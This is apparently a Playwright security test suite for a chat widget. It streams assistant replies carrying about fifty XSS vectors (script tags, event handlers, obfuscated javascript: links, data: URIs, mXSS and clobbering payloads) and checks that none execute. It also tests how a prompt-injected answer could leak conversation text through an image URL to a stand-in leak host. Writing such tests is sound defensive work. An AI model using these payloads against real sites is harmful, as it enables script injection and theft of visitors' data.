// Script injection through assistant replies, in a real browser against dist/widget.js.
// Each vector is delivered the way a hub delivers text: streamed as deltas (provisional render),
// then as `done.reply` (final render). Every payload tries three things an attacker wants: set
// `window.__xss`, open a dialog, and make the browser request `/__xss_hit?v=N` from the server.
// The first tests prove that these detectors fire when the same reply reaches an unsafe sink.
import type { BrowserContext, Dialog, Page } from '@playwright/test';
import { ALLOWED_TAGS, ATTRIBUTES_BY_TAG, IMAGE_ATTRIBUTES, LINK_REL, LINK_TARGET } from '../widget/markdown/markdown-policy';
import { ask, expect, launcher, lastAssistant, loadWidget, nextFrame, requestsReported, test } from './fixtures';

// ---- detector ----

interface Detector {
  /** URLs of requests to the marker path, from any page of the context. */
  hits: string[];
  /** Dialogs opened by any page of the context. */
  dialogs: string[];
  /** `window.__xss` in every open page of the context (undefined when untouched). */
  flags(): Promise<unknown[]>;
  /** The kinds of canary (`/__canary?<kind>`) that reported since the last `afterCanaries`. */
  canaries: string[];
  /** Closes the tabs that clicked links opened, once they have been looked at. */
  closePopups(): Promise<void>;
}

const MARKER = '__xss_hit';
const CANARY = '__canary';

function armDetector(context: BrowserContext, page: Page): Detector {
  const hits: string[] = [];
  const dialogs: string[] = [];
  const canaries: string[] = [];
  const onDialog = (dialog: Dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    dialog.dismiss().catch(() => undefined);
  };
  context.on('request', (request) => {
    if (request.url().includes(MARKER)) hits.push(request.url());
    const url = new URL(request.url());
    if (url.pathname === `/${CANARY}`) canaries.push(url.search.slice(1));
  });
  page.on('dialog', onDialog);
  context.on('page', (popup) => popup.on('dialog', onDialog));
  return {
    hits,
    dialogs,
    flags: () =>
      Promise.all(
        context.pages().map((p) => p.evaluate(() => (window as { __xss?: unknown }).__xss).catch(() => 'unreadable')),
      ),
    canaries,
    closePopups: async () => {
      for (const p of context.pages()) if (p !== page) await p.close();
    },
  };
}

/**
 * The self-test again, after a render or the clicks: the slowest kinds of payload (an `<img>`
 * error after its failed load, a 0 s meta refresh, a frame's script, a `toggle` event; with
 * `links`, a clicked `javascript:` link and a link opening a tab) put in plain host markup now,
 * each reporting `/__canary?<kind>`, and waited for. What the widget put on the page (or what was
 * clicked) came first, so had it been live it would have fired by then. Then the markup goes.
 */
async function afterCanaries(page: Page, detector: Detector, links = false) {
  detector.canaries.length = 0;
  const kinds = ['img', 'refresh', 'frame', 'toggle', ...(links ? ['js-link', 'tab'] : [])];
  await page.evaluate(
    ({ links, c }) => {
      const box = document.createElement('div');
      box.id = 'canaries';
      box.innerHTML =
        `<img src="x" onerror="fetch('/${c}?img')">` +
        `<iframe srcdoc="<meta http-equiv=refresh content='0;url=/${c}?refresh'>"></iframe>` +
        `<iframe srcdoc="<script>fetch('/${c}?frame')</script>"></iframe>` +
        `<details open ontoggle="fetch('/${c}?toggle')"><summary>s</summary>x</details>` +
        (links ? `<a id="canary-js" href="javascript:fetch('/${c}?js-link')">js</a> <a id="canary-tab" href="/${c}?tab" target="_blank">tab</a>` : '');
      document.body.prepend(box);
    },
    { links, c: CANARY },
  );
  if (links) {
    await page.locator('#canary-js').click();
    await page.locator('#canary-tab').click();
  }
  await expect.poll(() => kinds.filter((kind) => !detector.canaries.includes(kind)), { message: 'canaries that have not reported yet' }).toEqual([]);
  await page.evaluate(() => document.getElementById('canaries')!.remove());
}

/**
 * What a payload runs: all three detectors at once. `top` so it also reaches out of a same-origin
 * frame. The marker URL is relative: an absolute URL shown as text would be auto-linked (GFM), and
 * a visitor choosing to open a visible link is not an injection.
 */
function js(n: number, _base: string): string {
  return `top.__xss=${n};alert(${n});fetch('/${MARKER}?v=${n}')`;
}

/** A marker URL for attributes (refresh, object, stylesheet…); relative for the same reason. */
const hit = (n: number) => `/${MARKER}?v=${n}`;

// ---- a hand-made stream ----

const SSE_HEADERS = { 'content-type': 'text/event-stream; charset=utf-8', 'cache-control': 'no-store' };
const frame = (event: string, data: unknown, id?: number) => `event: ${event}\n${id !== undefined ? `id: ${id}\n` : ''}data: ${JSON.stringify(data)}\n\n`;

function deltasOf(jobId: string, text: string): string {
  let body = frame('open', { ok: true, job_id: jobId, status: 'running', protocol: 'bailing.chat.stream.v1', streaming: true });
  body += frame('phase', { seq: 1, ts: Date.now(), name: 'model', round: 1 }, 1);
  const chars = Array.from(text);
  for (let i = 0, seq = 2; i < chars.length; i += 7, seq++) {
    body += frame('delta', { seq, ts: Date.now(), text: chars.slice(i, i + 7).join(''), round: 1 }, seq);
  }
  return body;
}

interface Delivery {
  jobId: string;
  visitorId: string;
  /** Events requests seen: the first carries the deltas, the reconnect the `done`. */
  eventsRequests: number;
}

/**
 * Sends a message and answers it with `reply`: first the deltas on a stream that ends without a
 * terminal event, so the widget shows them provisionally and reconnects; then, once
 * `atProvisional` has looked at the provisional render, `done` with the reply on the reconnect.
 */
async function deliver(page: Page, reply: string, atProvisional?: () => Promise<void>): Promise<Delivery> {
  const delivery: Delivery = { jobId: '', visitorId: '', eventsRequests: 0 };
  const created = page.waitForResponse((r) => r.request().method() === 'POST' && new URL(r.url()).pathname === '/chat/demo_assistant');
  let reconnected!: () => void;
  const reconnect = new Promise<void>((resolve) => (reconnected = resolve));
  let release!: () => void;
  const gate = new Promise<void>((resolve) => (release = resolve));
  await page.route('**/chat/demo_assistant/events/**', async (route) => {
    const { job_id: jobId, visitor_id: visitorId } = await (await created).json();
    expect(route.request().url()).toContain(`/events/${encodeURIComponent(jobId)}`);
    delivery.jobId = jobId;
    delivery.visitorId = visitorId;
    delivery.eventsRequests++;
    if (delivery.eventsRequests === 1) {
      await route.fulfill({ status: 200, headers: SSE_HEADERS, body: deltasOf(jobId, reply) });
      return;
    }
    reconnected();
    await gate;
    await route.fulfill({
      status: 200,
      headers: SSE_HEADERS,
      body: frame('open', { ok: true, job_id: jobId, status: 'running' }) + frame('done', { done: true, job_id: jobId, visitor_id: visitorId, reply }),
    });
  });
  await page.evaluate(() => {
    const w = window as { __doneReplies?: string[]; BailingChat?: { on(e: string, h: (d: { reply: string }) => void): void } };
    if (w.__doneReplies) return;
    w.__doneReplies = [];
    w.BailingChat!.on('done', (d) => w.__doneReplies!.push(d.reply));
  });
  const before = await page.evaluate(() => (window as { __doneReplies?: string[] }).__doneReplies!.length);
  await ask(page, 'show me');
  await reconnect;
  // The provisional paint happens on an animation frame after the deltas.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  await expect(lastAssistant(page).locator('.bc-body')).not.toBeEmpty();
  try {
    if (atProvisional) await atProvisional();
  } finally {
    release();
  }
  await expect.poll(() => page.evaluate(() => (window as { __doneReplies?: string[] }).__doneReplies!.length)).toBe(before + 1);
  expect(await page.evaluate(() => (window as { __doneReplies?: string[] }).__doneReplies!.at(-1))).toBe(reply);
  return delivery;
}

// ---- what the bubble may contain ----

/** The policy's tags and attributes, plus the attributes the widget itself sets on them. */
const ADDED_ATTRIBUTES: Record<string, string[]> = {
  a: ['target', 'rel'],
  img: Object.keys(IMAGE_ATTRIBUTES),
  // Wide blocks are focusable so keyboard users can scroll them.
  pre: ['tabindex'],
  table: ['tabindex'],
  // The mark that the code colours drew a block (its pieces are spans with a class).
  code: ['data-hl'],
};
const ALLOWED: Record<string, string[]> = Object.fromEntries(
  ALLOWED_TAGS.map((tag) => [tag, [...(ATTRIBUTES_BY_TAG[tag] ?? []), ...(ADDED_ATTRIBUTES[tag] ?? [])]]),
);

/** Everything wrong with the markup under `root`, as readable strings (empty when clean). */
function auditMarkup(page: Page, selector: string) {
  return page.evaluate(
    ({ selector, allowed }) => {
      const host = document.querySelector('bailing-chat-widget')!;
      // The last match: the answer under test (the list also holds earlier answers and footers).
      const roots = [...host.shadowRoot!.querySelectorAll(selector)].slice(-1);
      const problems: string[] = [];
      for (const root of roots) {
        for (const el of root.querySelectorAll('*')) {
          const tag = el.localName;
          // A finished answer's code block gets the widget's own head (language, Copy code): only
          // in that shape, and nothing inside it is the model's markup.
          const head = el.closest('.bc-code-head');
          if (head) {
            const shape = [...head.children].map((c) => `${c.localName}.${c.className}`).join(' ');
            if (el === head && (shape !== 'span.bc-code-lang button.bc-code-copy' || head.attributes.length !== 1 || !head.parentElement?.matches('pre') || !head.nextElementSibling?.matches('code'))) problems.push(`code head of another shape: ${head.outerHTML.slice(0, 200)}`);
            continue;
          }
          if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`foreign element <${tag}>`);
          if (!Object.prototype.hasOwnProperty.call(allowed, tag)) problems.push(`element <${tag}>`);
          for (const { name, value } of el.attributes) {
            if (/^on/i.test(name)) problems.push(`event attribute ${tag}[${name}]`);
            if (name === 'style') problems.push(`style attribute on <${tag}>`);
            if (name === 'id' || name === 'name') problems.push(`clobbering attribute ${tag}[${name}]`);
            if (!(allowed[tag] ?? []).includes(name)) problems.push(`attribute ${tag}[${name}]`);
            if (/^(href|src|action|formaction|data|srcdoc|xlink:href|background|poster|srcset)$/i.test(name)) {
              if (/^\s*(javascript|data|vbscript):/i.test(value)) problems.push(`${tag}[${name}] = ${value}`);
              const ok = name === 'href' ? /^(https?:|mailto:)/.test(value) : name === 'src' ? /^https:/.test(value) : false;
              if (!ok) problems.push(`${tag}[${name}] = ${value}`);
            }
          }
          if (tag === 'a' && el.hasAttribute('href')) {
            if (el.getAttribute('target') !== '_blank') problems.push(`link without target=_blank: ${el.getAttribute('href')}`);
          }
        }
      }
      return { roots: roots.length, problems };
    },
    { selector, allowed: ALLOWED },
  );
}

/** Elements that must not exist anywhere in the widget or be added to the host page. */
async function dangerousElements(page: Page) {
  return page.evaluate(() => {
    const bad = 'script, iframe, frame, object, embed, form:not(.bc-composer), input, meta, base, link, style, math, noscript, template, details, audio, video, source';
    const host = document.querySelector('bailing-chat-widget')!;
    // The widget's own controls: the composer (its file picker among them), the action bar
    // under an answer, the Edit button beside the last question, and the head of a finished answer's code block (its shape is checked above).
    // Model text reaches none of them as markup.
    const own = '.bc-composer, .bc-acts, .bc-edit, .bc-code-head';
    return {
      shadow: [...host.shadowRoot!.querySelectorAll(bad)].filter((el) => !el.closest(own)).map((el) => el.outerHTML.slice(0, 80)),
      foreignSvg: [...host.shadowRoot!.querySelectorAll('svg')].filter((svg) => !svg.closest(`.bc-header, .bc-launcher, .bc-status, ${own}`)).length,
      // The host page's own elements, to compare with what it had before the answer.
      lightDom: [...document.querySelectorAll('*')].filter((el) => el.localName !== 'bailing-chat-widget').map((el) => el.outerHTML.slice(0, 80)),
      baseURI: document.baseURI,
      api: (window as { BailingChat?: { apiVersion?: string } }).BailingChat?.apiVersion,
    };
  });
}

const BUBBLE = '.bc-msg-assistant:not(.bc-greeting) .bc-body';

interface Baseline {
  pageUrl: string;
  lightDom: string[];
}

async function expectClean(page: Page, detector: Detector, baseline: Baseline, when: string) {
  const pageUrl = baseline.pageUrl;
  expect(await auditMarkup(page, BUBBLE), when).toEqual({ roots: 1, problems: [] });
  expect(await dangerousElements(page), when).toEqual({ shadow: [], foreignSvg: 0, lightDom: baseline.lightDom, baseURI: pageUrl, api: '1' });
  expect(detector.hits, when).toEqual([]);
  expect(detector.dialogs, when).toEqual([]);
  expect((await detector.flags()).filter((f) => f !== undefined), when).toEqual([]);
  expect(page.url(), when).toBe(pageUrl);
  await detector.closePopups();
}

/** Blocks every request that leaves the test server, and any navigation of the host page. */
async function fence(context: BrowserContext, page: Page, serverUrl: string) {
  await context.route(
    (url) => !url.href.startsWith(serverUrl),
    (route) => route.abort('blockedbyclient'),
  );
  await page.route('**/*', (route) => {
    const request = route.request();
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) return route.abort('blockedbyclient');
    return route.fallback();
  });
  // Tabs opened by clicked links stay open until `expectClean` has read their flags.
}

/** Clicks every link in the last answer (a popup per link; navigation is fenced). */
async function clickEveryLink(page: Page) {
  const links = lastAssistant(page).locator('.bc-body a');
  const count = await links.count();
  for (let i = 0; i < count; i++) await links.nth(i).click();
  return count;
}

async function setup(page: Page, context: BrowserContext, serverUrl: string, before?: string) {
  const detector = armDetector(context, page);
  await loadWidget(page, serverUrl, before ? { before } : {});
  await fence(context, page, serverUrl);
  await launcher(page).click();
  const baseline: Baseline = { pageUrl: page.url(), lightDom: (await dangerousElements(page)).lightDom };
  return { detector, baseline, pageUrl: baseline.pageUrl };
}

// ---- the detector fires ----

test.describe('detector self-test', () => {
  test('the same reply path into an unsafe sink (innerHTML) trips all three detectors', async ({ page, context, server }) => {
    const { detector } = await setup(page, context, server.url);
    // A deliberately unsafe host: it writes each finished reply into the page with innerHTML.
    await page.evaluate(() => {
      (window as any).BailingChat.on('done', (d: { reply: string }) => {
        const sink = document.createElement('div');
        sink.id = 'unsafe-sink';
        sink.innerHTML = d.reply;
        document.body.append(sink);
      });
    });
    const reply = `<img src=x onerror="${js(901, server.url)}">`;
    await deliver(page, reply);
    await expect.poll(() => detector.hits).toEqual([`${server.url}/${MARKER}?v=901`]);
    await expect.poll(() => detector.dialogs).toEqual(['alert: 901']);
    expect(await detector.flags()).toContain(901);
    // The widget's own bubble shows the same reply as text.
    await expect(lastAssistant(page)).toContainText('<img src=x onerror=');
  });

  test('clicking an unsafe javascript: link trips the detectors (so link clicks are a real check)', async ({ page, context, server }) => {
    const { detector } = await setup(page, context, server.url);
    await page.evaluate((code) => {
      const a = document.createElement('a');
      a.href = `javascript:${code}`;
      a.textContent = 'unsafe';
      a.id = 'unsafe-link';
      document.body.prepend(a);
    }, js(902, server.url));
    await page.locator('#unsafe-link').click();
    await expect.poll(() => detector.hits).toEqual([`${server.url}/${MARKER}?v=902`]);
    await expect.poll(() => detector.dialogs).toEqual(['alert: 902']);
  });

  test('the markup audit reports what an unsafe render would leave in the bubble', async ({ page, context, server }) => {
    await setup(page, context, server.url);
    await deliver(page, 'placeholder');
    await lastAssistant(page).locator('.bc-body').evaluate((body) => {
      // Inert (no network, no script) but forbidden markup, written past the sanitizer.
      body.insertAdjacentHTML('beforeend', '<p style="color:red" id="x" onclick="void 0">a</p><a href="javascript:void 0">b</a><svg></svg><iframe></iframe>');
    });
    const { problems } = await auditMarkup(page, BUBBLE);
    for (const expected of ['style attribute on <p>', 'clobbering attribute p[id]', 'event attribute p[onclick]', 'a[href] = javascript:void 0', 'foreign element <svg>', 'element <iframe>', 'link without target=_blank: javascript:void 0']) {
      expect(problems).toContain(expected);
    }
    expect((await dangerousElements(page)).shadow.length).toBeGreaterThan(0);
  });
});

// ---- vectors ----

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

/** Each vector gets its own number `n` (in the marker URL, the flag and the alert). */
const VECTORS: { title: string; reply: (n: number, base: string) => string }[] = [
  { title: 'raw <script>', reply: (n, b) => `<script>${js(n, b)}</script>` },
  { title: 'inline <script> mid-sentence', reply: (n, b) => `Hello <script>${js(n, b)}</script> world` },
  { title: '<img src=x onerror>', reply: (n, b) => `<img src=x onerror="${js(n, b)}">` },
  { title: '<img onerror> inline in text', reply: (n, b) => `Look: <img src=x onerror="${js(n, b)}"> here` },
  { title: '<svg onload>', reply: (n, b) => `<svg onload="${js(n, b)}"></svg>` },
  { title: '<svg><script>', reply: (n, b) => `<svg><script>${js(n, b)}</script></svg>` },
  { title: 'MathML xlink:href=javascript:', reply: (n, b) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(n, b)}">click</maction><mi href="javascript:${js(n, b)}">x</mi></math>` },
  { title: '<iframe src=javascript:>', reply: (n, b) => `<iframe src="javascript:${js(n, b)}"></iframe>` },
  { title: '<iframe srcdoc>', reply: (n, b) => `<iframe srcdoc="<script>${js(n, b)}</script>"></iframe>` },
  { title: '<a href="javascript:">', reply: (n, b) => `<a href="javascript:${js(n, b)}">click me</a>` },
  { title: 'markdown [x](javascript:)', reply: (n, b) => `[click me](javascript:${js(n, b)})` },
  { title: 'markdown link, mixed-case scheme', reply: (n, b) => `[click me](JaVaScRiPt:${js(n, b)})` },
  { title: 'markdown link, decimal entity java&#115;cript:', reply: (n, b) => `[click me](java&#115;cript:${js(n, b)})` },
  { title: 'markdown link, hex entity &#x6A;avascript:', reply: (n, b) => `[click me](&#x6A;avascript:${js(n, b)})` },
  { title: 'markdown link, entities without semicolons', reply: (n, b) => `[click me](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${js(n, b)})` },
  { title: 'markdown link, &colon;', reply: (n, b) => `[click me](javascript&colon;${js(n, b)})` },
  { title: 'markdown link, leading space', reply: (n, b) => `[click me]( javascript:${js(n, b)})` },
  { title: 'markdown link, tab inside the scheme', reply: (n, b) => `[click me](<java\tscript:${js(n, b)}>)` },
  { title: 'markdown link, tab entity inside the scheme', reply: (n, b) => `[click me](java&#x09;script:${js(n, b)})` },
  { title: 'markdown link, newline entity inside the scheme', reply: (n, b) => `[click me](java&#10;script:${js(n, b)})` },
  { title: 'markdown link, angle-bracket destination and a title', reply: (n, b) => `[click me](<javascript:${js(n, b)}> "title")` },
  { title: 'reference link', reply: (n, b) => `[click me][evil] and [again][evil2]\n\n[evil]: javascript:${js(n, b)}\n[evil2]: java&#115;cript:${js(n, b)} "t"` },
  { title: 'autolink <javascript:…>', reply: (n, b) => `<javascript:${js(n, b)}>` },
  { title: 'vbscript: and protocol-relative links', reply: (n, b) => `[vb](vbscript:msgbox(${n})) [rel](//${new URL(b).host}/${MARKER}?v=${n}) [path](/${MARKER}?v=${n})` },
  { title: 'image ![x](javascript:)', reply: (n, b) => `![x](javascript:${js(n, b)})` },
  { title: 'image ![x](data:image/svg+xml,…)', reply: (n, b) => `![x](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(n, b)}"><image href="${hit(n)}"/></svg>`)})` },
  { title: 'image ![x](data:image/svg+xml;base64,…)', reply: (n, b) => `![x](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(n, b)}"/>`)})` },
  { title: 'image from the hub origin over http (not https)', reply: (n, b) => `![x](${b}/${MARKER}?v=${n}) ![y](${b.replace('http:', 'HTTP:')}/${MARKER}?v=${n})` },
  { title: 'link [x](data:text/html,…)', reply: (n, b) => `[click me](data:text/html,<script>${js(n, b)}</script>) [b64](data:text/html;base64,${b64(`<script>${js(n, b)}</script>`)})` },
  { title: '<form action> with a button', reply: (n, b) => `<form action="${hit(n)}"><button autofocus>Pay</button><input type=submit></form>` },
  { title: '<input autofocus onfocus>', reply: (n, b) => `<input autofocus onfocus="${js(n, b)}">` },
  { title: '<details open ontoggle>', reply: (n, b) => `<details open ontoggle="${js(n, b)}"><summary>s</summary>x</details>` },
  { title: '<meta http-equiv=refresh>', reply: (n, b) => `<meta http-equiv="refresh" content="0;url=${hit(n)}">` },
  { title: '<base href>', reply: (n, b) => `<base href="/${MARKER}/">\n\n[relative](rel?v=${n}) ![img](pic.png)` },
  { title: '<style> with @import', reply: (n, b) => `<style>@import url('${hit(n)}'); body { background: url('${hit(n)}') }</style>` },
  { title: '<link rel=stylesheet href>', reply: (n, b) => `<link rel="stylesheet" href="${hit(n)}">` },
  { title: '<object data>', reply: (n, b) => `<object data="${hit(n)}"></object><object data="javascript:${js(n, b)}"></object>` },
  { title: '<embed src>', reply: (n, b) => `<embed src="${hit(n)}">` },
  { title: '<a id=BailingChat> clobbering', reply: (n, b) => `<a id="BailingChat" name="BailingChat" href="${hit(n)}">x</a><form name="BailingChat"></form><img name="getElementById" src="${hit(n)}">` },
  { title: 'mXSS: noscript title', reply: (n, b) => `<noscript><p title="</noscript><img src=x onerror=${js(n, b)}>">` },
  { title: 'mXSS: svg </p><style>', reply: (n, b) => `<svg></p><style><a id="</style><img src=1 onerror=${js(n, b)}>">` },
  { title: 'mXSS: math mglyph style comment', reply: (n, b) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js(n, b)}&gt;">` },
  { title: 'mXSS: form/math namespace confusion', reply: (n, b) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js(n, b)}>` },
  { title: 'mXSS: textarea and template', reply: (n, b) => `<textarea><p title="</textarea><img src=x onerror=${js(n, b)}>"></textarea><template><img src=x onerror=${js(n, b)}></template>` },
  { title: 'html inside link text, emphasis, heading and table cell', reply: (n, b) => `# <img src=x onerror="${js(n, b)}">\n\n[<img src=x onerror="${js(n, b)}">](https://example.com/) **<svg onload="${js(n, b)}">**\n\n| a |\n|---|\n| <img src=x onerror="${js(n, b)}"> |` },
  { title: 'attribute break-out through link title, image alt and fence info', reply: (n, b) => `[x](https://example.com/ "a\\" onmouseover=\\"${js(n, b)}") ![a" onerror="${js(n, b)}](https://images.example.test/a.png)\n\n\`\`\`js" onmouseover="${js(n, b)}\ncode\n\`\`\`` },
  { title: 'unclosed tags across the stream (split in deltas)', reply: (n, b) => `text <img src=x onerr` + `or="${js(n, b)}" and more <scr` + `ipt>${js(n, b)}</scr` + `ipt>` },
];

test.describe('vectors: no script, no request, nothing outside the allow-list', () => {
  VECTORS.forEach(({ title, reply }, i) => {
    const n = i + 1;
    test(`${n}. ${title}`, async ({ page, context, server }) => {
      const { detector, baseline } = await setup(page, context, server.url);
      const text = reply(n, server.url);
      await deliver(page, text, async () => {
        // Provisional render (streamed deltas): no images at all, and clean.
        await afterCanaries(page, detector);
        await expectClean(page, detector, baseline, 'while streaming');
        expect(await lastAssistant(page).locator('.bc-body img').count()).toBe(0);
      });
      await afterCanaries(page, detector);
      await expectClean(page, detector, baseline, 'after done');
      await clickEveryLink(page);
      await afterCanaries(page, detector, true);
      await expectClean(page, detector, baseline, 'after clicking every link');
      // The visitor still sees something: raw HTML as literal text, a refused link as its text.
      expect((await lastAssistant(page).locator('.bc-body').innerText()).trim().length).toBeGreaterThan(0);
    });
  });
});

// ---- links and images that are allowed ----

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

test.describe('links and images', () => {
  test('links open in a new tab with rel="noopener noreferrer nofollow"; unsafe ones lose their href', async ({ page, context, server }) => {
    const { detector, pageUrl } = await setup(page, context, server.url);
    await deliver(page, '[docs](https://docs.example.com/widget) [mail](mailto:help@example.com) [plain](http://example.com/) [bad](javascript:alert(1)) <https://auto.example.com/x>');
    const links = lastAssistant(page).locator('.bc-body a');
    await expect(links).toHaveCount(4);
    for (let i = 0; i < 4; i++) {
      await expect(links.nth(i)).toHaveAttribute('target', LINK_TARGET);
      await expect(links.nth(i)).toHaveAttribute('rel', LINK_REL);
    }
    expect(LINK_TARGET).toBe('_blank');
    expect(LINK_REL).toBe('noopener noreferrer nofollow');
    expect(await links.evaluateAll((as) => as.map((a) => a.getAttribute('href')))).toEqual([
      'https://docs.example.com/widget',
      'mailto:help@example.com',
      'http://example.com/',
      'https://auto.example.com/x',
    ]);
    await expect(lastAssistant(page).locator('.bc-body')).toContainText('bad');
    // A click opens a new tab (blocked from loading here); the host page stays where it is.
    const popup = context.waitForEvent('page');
    await links.first().click();
    await popup;
    expect(page.url()).toBe(pageUrl);
    expect(detector.hits).toEqual([]);
  });

  test('http: images are not loaded; https images from a listed origin are lazy and load only after done', async ({ page, context, server }) => {
    await setup(page, context, server.url, `window.BailingChat = { config: { images: ['https://images.example.test'] } }`);
    const imageRequests: { url: string; at: 'streaming' | 'done' }[] = [];
    let phase: 'streaming' | 'done' = 'streaming';
    // Registered after the fence, so it answers first for this host.
    await context.route('https://images.example.test/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
    context.on('request', (r) => {
      if (r.url().includes('images.example.test')) imageRequests.push({ url: r.url(), at: phase });
    });
    await deliver(page, 'Pictures:\n\n![secure](https://images.example.test/ok.png)\n\n![plain](http://images.example.test/http.png)', async () => {
      // An image in the provisional render would be asked for once a frame's layout has placed it.
      await nextFrame(page);
      await requestsReported(page);
      // While streaming: no <img> at all, the alt text stands in for both.
      await expect(lastAssistant(page).locator('.bc-body img')).toHaveCount(0);
      await expect(lastAssistant(page).locator('.bc-body')).toContainText('[image: secure]');
      expect(imageRequests).toEqual([]);
      phase = 'done';
    });
    const img = lastAssistant(page).locator('.bc-body img');
    await expect(img).toHaveCount(1);
    await expect(img).toHaveAttribute('src', 'https://images.example.test/ok.png');
    await expect(img).toHaveAttribute('loading', 'lazy');
    await expect(img).toHaveAttribute('referrerpolicy', 'no-referrer');
    await expect(lastAssistant(page).locator('.bc-body')).toContainText('[image: plain]');
    await expect.poll(() => imageRequests.map((r) => `${r.at} ${r.url}`)).toEqual(['done https://images.example.test/ok.png']);
    await expect.poll(() => img.evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth)).toBe(1);
  });

  test('lazy loading: an image far above the visible end of a long answer waits until scrolled to', async ({ page, context, server }) => {
    await setup(page, context, server.url, `window.BailingChat = { config: { images: ['https://images.example.test'] } }`);
    const requested: string[] = [];
    await context.route('https://images.example.test/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
    context.on('request', (r) => {
      if (r.url().includes('images.example.test')) requested.push(r.url());
    });
    const filler = Array.from({ length: 200 }, (_, i) => `Line ${i + 1} of a long answer.`).join('\n\n');
    await deliver(page, `![top](https://images.example.test/top.png)\n\n${filler}\n\n![bottom](https://images.example.test/bottom.png)`);
    // The list follows the end of the answer: the bottom image is in view, the top one thousands of px above.
    await expect.poll(() => requested).toEqual(['https://images.example.test/bottom.png']);
    // Both images were checked against the viewport in the frame that asked for the bottom one.
    await nextFrame(page);
    await requestsReported(page);
    expect(requested).toEqual(['https://images.example.test/bottom.png']);
    await page.locator('bailing-chat-widget .bc-messages').evaluate((el) => (el.scrollTop = 0));
    await expect.poll(() => requested).toEqual(['https://images.example.test/bottom.png', 'https://images.example.test/top.png']);
  });

  // A prompt-injected answer can carry the conversation in an image URL: by default no image loads,
  // and a listed origin lets only that origin's images through.
  for (const listed of [[], ['https://images.example.test']]) {
    test(`an image from an origin not listed (${listed.length ? 'another origin listed' : 'none listed, the default'}) is its alt text and sends nothing`, async ({ page, context, server }) => {
      await setup(page, context, server.url, `window.BailingChat = { config: { images: ${JSON.stringify(listed)} } }`);
      const requested: string[] = [];
      await context.route(/^https:\/\/(images|leak)\.example\.test\//, (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
      context.on('request', (r) => {
        if (/example\.test/.test(r.url())) requested.push(r.url());
      });
      // The control image is on a listed origin (when one is): its request is the event that shows
      // images were being fetched, so the leak's absence after it is not a matter of timing.
      const control = listed.length ? '![ok](https://images.example.test/ok.png)\n\n' : '';
      await deliver(page, `${control}![x](https://leak.example.test/p.png?d=the+visitor+said+this)`);
      const body = lastAssistant(page).locator('.bc-body');
      await expect(body).toContainText('[image: x]');
      await expect(body.locator('a')).toHaveCount(0);
      if (listed.length) {
        await expect.poll(() => requested).toEqual(['https://images.example.test/ok.png']);
        await expect.poll(() => body.locator('img').evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth)).toBe(1);
      } else {
        await expect(body.locator('img')).toHaveCount(0);
      }
      // The final render is in (deliver saw done): an image would be asked for after the next layout.
      await nextFrame(page);
      await requestsReported(page);
      expect(requested.filter((url) => url.includes('leak.'))).toEqual([]);
    });
  }

  test('the leak detector fires: with the leak origin listed, the same answer requests it', async ({ page, context, server }) => {
    await setup(page, context, server.url, `window.BailingChat = { config: { images: ['https://leak.example.test'] } }`);
    const requested: string[] = [];
    await context.route('https://leak.example.test/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
    context.on('request', (r) => {
      if (r.url().includes('leak.example.test')) requested.push(r.url());
    });
    await deliver(page, '![x](https://leak.example.test/p.png?d=the+visitor+said+this)');
    await expect.poll(() => requested).toEqual(['https://leak.example.test/p.png?d=the+visitor+said+this']);
  });
});
